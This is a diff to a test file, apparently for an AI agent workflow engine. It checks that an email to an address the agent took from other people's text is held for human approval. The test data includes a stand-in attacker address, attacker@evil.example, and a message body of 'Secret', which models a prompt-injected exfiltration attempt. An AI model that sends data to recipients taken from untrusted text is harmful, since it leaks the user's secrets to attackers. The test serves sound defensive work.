@@ -101,15 +101,15 @@ it("no email goes to an address that an agent took from others' text until a per
   const waiting = await jobs.until(run, "waiting");
   expect(waiting.nodes.find(({ nodeId }: Row) => nodeId === "send").reason.kind).toBe("approval");
   expect(mailsTo("attacker@evil.example")).toBe(0);
-  const [asked] = await askedBy(run);
-  expect(asked).toMatchObject({
+  const [request] = await askedBy(run);
+  expect(request).toMatchObject({
     message:
       "The recipient comes from text written by other people: attacker@evil.example, from step “Find the reporter”.",
     arguments: { to: "attacker@evil.example", body: "Secret" },
     nodeId: "send",
     status: "pending",
   });
-  expect((await decide(asked.id, "approve")).status).toBe(200);
+  expect((await decide(request.id, "approve")).status).toBe(200);
   await jobs.until(run, "succeeded");
   expect(mailsTo("attacker@evil.example")).toBe(1);
   expect(await askedBy(run)).toMatchObject([{ status: "executed" }]);
